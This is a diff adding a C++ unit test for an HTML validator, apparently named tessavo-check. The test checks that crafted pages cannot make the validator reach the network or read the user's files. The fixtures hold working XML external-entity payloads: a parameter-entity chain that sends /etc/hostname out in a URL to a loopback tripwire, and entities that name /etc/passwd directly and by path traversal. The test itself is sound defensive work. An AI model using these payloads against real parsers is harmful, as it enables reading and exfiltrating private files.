@@ -1,5 +1,9 @@
 // tessavo-check run as a program, as a terminal or CI runs it.
 #include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
 
 #include <string>
 
@@ -101,6 +105,84 @@ TEST_F(TessavoCheckTest, ChecksHttpsTargets) {
             "-------- " + bad +
                 "\nE: ソケットエラー：certificate verify failed (self-signed certificate)\n"
                 "検査終了\n");
+}
+
+// A listening socket on 127.0.0.1 that nobody should ever connect to.
+class Tripwire {
+ public:
+  Tripwire() : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
+    sockaddr_in address{};
+    address.sin_family = AF_INET;
+    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t length = sizeof address;
+    if (fd_ < 0 || ::bind(fd_, reinterpret_cast<sockaddr*>(&address), length) != 0 ||
+        ::listen(fd_, 8) != 0 ||
+        ::getsockname(fd_, reinterpret_cast<sockaddr*>(&address), &length) != 0) {
+      return;
+    }
+    url_ = "http://127.0.0.1:" + std::to_string(ntohs(address.sin_port));
+  }
+  ~Tripwire() {
+    if (fd_ >= 0) ::close(fd_);
+  }
+  // "http://127.0.0.1:<port>", or empty when it could not listen.
+  const std::string& url() const { return url_; }
+  // Whether a connection is waiting, or was made and closed again.
+  bool touched() const {
+    pollfd entry{fd_, POLLIN, 0};
+    return ::poll(&entry, 1, 0) == 1;
+  }
+
+ private:
+  int fd_;
+  std::string url_;
+};
+
+TEST_F(TessavoCheckTest, PagesReachNoNetworkAndDownloadsNoFileOfTheUser) {
+  if (std::system("command -v onsgmls >/dev/null") != 0) GTEST_SKIP() << "needs onsgmls";
+  const Tripwire tripwire;
+  ASSERT_FALSE(tripwire.url().empty());
+  const std::string html401 = "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\" [\n";
+  const std::string body = "]>\n<title>t</title><p>x<blink>b</blink>\n";
+  // A file's contents sent away in a URI, a remote entity, and files of the
+  // user by absolute and by relative name.
+  writeFile(folder_ + "site/leak.html",
+            html401 +
+                "<!ENTITY % f SYSTEM \"/etc/hostname\">\n<!ENTITY % e \"<!ENTITY &#37; x SYSTEM '" +
+                tripwire.url() + "/leak?%f;'>\">\n%e;%x;\n" + body);
+  writeFile(folder_ + "site/files.html",
+            html401 +
+                "<!ENTITY % p SYSTEM \"/etc/passwd\">\n<!ENTITY % h SYSTEM "
+                "\"../../../../../../../../etc/passwd\">\n<!ENTITY % r SYSTEM \"" +
+                tripwire.url() + "/remote.ent\">\n%p;%h;%r;\n" + body);
+  // The XHTML DTDs still resolve for a download.
+  writeFile(folder_ + "site/xhtml.html",
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
+            "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n"
+            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head>"
+            "<body><p>x<blink>b</blink></p></body></html>\n");
+  PythonHttpServer server(folder_ + "site");
+  ASSERT_TRUE(server.available()) << "needs python3";
+  // A validator that did connect waits for an answer that never comes.
+  writeSettings("ValidatorTimeout=5\n");
+  const Result downloaded = run("'" + server.url("/leak.html") + "' '" + server.url("/files.html") +
+                                "' '" + server.url("/xhtml.html") + "'");
+  // A local document is the user's own and reads what it names, but it
+  // reaches no network either.
+  const Result local = run("site/files.html");
+  EXPECT_FALSE(tripwire.touched()) << "the validator connected";
+  EXPECT_EQ(downloaded.output.find("root"), std::string::npos) << downloaded.output;
+  EXPECT_EQ(downloaded.output.find("not allowed in declaration subset"), std::string::npos)
+      << "a file's first character in a message:\n"
+      << downloaded.output;
+  EXPECT_NE(downloaded.output.find("6:26:E: element \"BLINK\" undefined"), std::string::npos)
+      << "the HTML 4.01 DTD did not resolve:\n"
+      << downloaded.output;
+  EXPECT_NE(downloaded.output.find("3:88:E: element \"blink\" undefined"), std::string::npos)
+      << "the XHTML DTD did not resolve:\n"
+      << downloaded.output;
+  EXPECT_NE(local.output.find("/etc/passwd:1:0:E: character \"r\""), std::string::npos)
+      << local.output;
 }
 
 TEST_F(TessavoCheckTest, HelpExplainsAndSucceeds) {
